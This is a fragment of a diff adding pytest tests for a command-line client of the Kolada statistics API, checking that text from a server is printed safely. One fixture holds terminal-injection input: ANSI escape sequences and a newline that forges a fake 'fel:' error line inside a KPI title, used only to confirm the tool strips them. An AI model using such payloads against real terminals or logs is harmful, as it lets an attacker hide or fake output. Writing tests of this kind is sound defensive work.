+    assert len(said) == (1 if value is None else 0), fetch.messages
+    assert (KoladaCache().get_value("N00090", NORSJO, 2024) is None) == (value is None)
+
+
+@pytest.mark.parametrize("command", [["kolada", "sok", "Sjuk"], ["kolada", "visa", "N00090"]])
+def test_a_servers_text_never_prints_escapes_or_extra_lines(cache_dir, monkeypatch, command):
+    fake = _fake()
+    fake.kpis["N00090"] = {"title": "Sjukfrånvaro\x1b[2J\x1b]0;titel\x07\nfel: falsk rad",
+                           "description": "Första raden.\nAndra\x1b[31m raden."}
+    with Server(fake) as url:
+        monkeypatch.setenv("VP_EXCEL_KOLADA_URL", url)
+        result = run(*command)
+    text = assert_clean(result, "Sjukfrånvaro")
+    assert result.exit_code == 0, text
+    assert "\x1b" not in text and "\x07" not in text
+    assert not [line for line in text.splitlines() if line.startswith("fel: falsk")], text
